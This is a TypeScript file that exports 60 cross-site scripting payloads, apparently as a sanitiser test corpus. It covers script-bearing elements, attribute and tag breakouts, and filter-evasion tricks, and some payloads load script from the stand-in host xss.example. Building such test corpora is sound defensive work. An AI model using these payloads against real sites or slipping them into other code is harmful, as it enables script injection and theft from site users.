/** Says that it ran, and marks whatever element it managed to add. */
const RUN = "window.__xss=1;alert('xss')";
const MARK = 'data-xss';

/** Elements that run something by themselves or when they are touched. */
const ELEMENTS = [
  `<script ${MARK}>${RUN}</script>`,
  `<script ${MARK} src="https://xss.example/x.js"></script>`,
  `<img ${MARK} src=x onerror="${RUN}">`,
  `<img ${MARK} src=x onerror=alert(1)>`,
  `<svg ${MARK} onload="${RUN}"></svg>`,
  `<svg ${MARK}><script>${RUN}</script></svg>`,
  `<svg ${MARK}><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<body ${MARK} onload="${RUN}">`,
  `<iframe ${MARK} src="javascript:${RUN}"></iframe>`,
  `<iframe ${MARK} srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object ${MARK} data="javascript:${RUN}"></object>`,
  `<embed ${MARK} src="javascript:${RUN}">`,
  `<video ${MARK}><source onerror="${RUN}"></video>`,
  `<audio ${MARK} src=x onerror="${RUN}"></audio>`,
  `<details ${MARK} open ontoggle="${RUN}">x</details>`,
  `<input ${MARK} autofocus onfocus="${RUN}">`,
  `<select ${MARK} autofocus onfocus="${RUN}"></select>`,
  `<textarea ${MARK} autofocus onfocus="${RUN}"></textarea>`,
  `<marquee ${MARK} onstart="${RUN}">x</marquee>`,
  `<a ${MARK} href="javascript:${RUN}">x</a>`,
  `<a ${MARK} href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form ${MARK} action="javascript:${RUN}"><button>x</button></form>`,
  `<button ${MARK} formaction="javascript:${RUN}">x</button>`,
  `<meta ${MARK} http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link ${MARK} rel="stylesheet" href="https://xss.example/x.css">`,
  `<base ${MARK} href="https://xss.example/">`,
  `<style ${MARK}>@import "https://xss.example/x.css";</style>`,
  `<math ${MARK}><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<template ${MARK}><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=${RUN}>">`,
];

/** Ways out of where a text may stand: attributes, comments, scripts, titles, style sheets. */
const BREAKOUTS = [
  `"><img ${MARK} src=x onerror="${RUN}">`,
  `'><img ${MARK} src=x onerror='alert(1)'>`,
  `" ${MARK} onmouseover="${RUN}" x="`,
  `' ${MARK} onfocus='alert(1)' autofocus x='`,
  `--><img ${MARK} src=x onerror="${RUN}">`,
  `]]><img ${MARK} src=x onerror="${RUN}">`,
  `</script><script ${MARK}>${RUN}</script>`,
  `</title><script ${MARK}>${RUN}</script>`,
  `</textarea><script ${MARK}>${RUN}</script>`,
  `</style><img ${MARK} src=x onerror="${RUN}">`,
  `</td></tr></table><img ${MARK} src=x onerror="${RUN}">`,
  `</template><img ${MARK} src=x onerror="${RUN}">`,
];

/** What parsers, filters and templates have been fooled by. */
const DISGUISES = [
  `<ScRiPt ${MARK}>${RUN}</sCrIpT>`,
  `<scr<script>ipt ${MARK}>${RUN}</scr</script>ipt>`,
  `<<img ${MARK} src=x onerror="${RUN}">`,
  `<img/${MARK}/src=x/onerror=alert(1)>`,
  `<img\t${MARK}\nsrc=x\nonerror=alert(1)>`,
  `<svg/${MARK}/onload=alert(1)>`,
  `<img ${MARK} src=\`x\` onerror=alert(1)>`,
  `&lt;img ${MARK} src=x onerror=alert(1)&gt;`,
  `&#60;img ${MARK} src=x onerror=alert(1)&#62;`,
  `\\u003cimg ${MARK} src=x onerror=alert(1)\\u003e`,
  `%3Cimg ${MARK} src=x onerror=alert(1)%3E`,
  `{{constructor.constructor("${RUN}")()}} ${MARK}`,
  `\${${RUN}} ${MARK}`,
  `<div ${MARK} v-html="x" @click="${RUN}" :style="x">x</div>`,
  `[x](javascript:${RUN}) ${MARK}`,
  `![x](x" onerror="${RUN}) ${MARK}`,
  `javascript:${RUN}//${MARK}`,
  `data:text/html,<script ${MARK}>${RUN}</script>`,
];

/** 60 texts that would like to be something else. */
export const XSS_PAYLOADS: readonly string[] = [...ELEMENTS, ...BREAKOUTS, ...DISGUISES];
export const XSS_MARK = MARK;
